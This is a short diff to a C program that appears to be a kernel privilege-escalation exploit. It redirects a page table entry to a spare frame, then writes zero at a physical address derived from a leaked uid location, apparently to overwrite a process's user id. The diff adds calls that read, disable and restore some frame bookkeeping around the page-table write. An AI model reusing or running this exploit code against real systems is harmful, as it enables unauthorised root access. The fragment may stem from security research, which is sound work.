@@ -103,6 +103,7 @@ static void put_right(uint64_t above, uint64_t shared, uint64_t spare)
 int main(void)
 {
 	volatile uint64_t *table;
+	struct attack_frame_books books;
 	uint64_t place, shared, spare;
 	char *beside, *above;
 
@@ -116,6 +117,8 @@ int main(void)
 	attack_say("the next empty page table is frame 0x%lx, says the word at 0x%lx: 0x%lx from "
 		   "now on, which is the one of 0x%lx",
 		   spare, place, shared, (uintptr_t)beside);
+	attack_frame_books_read(&leak, shared, &books);
+	attack_frame_books_no_table(&books);
 	store32(place, shared);
 
 	*(volatile char *)above = 0;
@@ -128,5 +131,6 @@ int main(void)
 	*(volatile uint32_t *)(void *)(above + BW_PAGE_SIZE + leak.uid_pa % BW_PAGE_SIZE) = 0;
 	table[1] = 0;
 	put_right((uintptr_t)above, shared, spare);
+	attack_frame_books_restore(&books);
 	return attack_finish();
 }
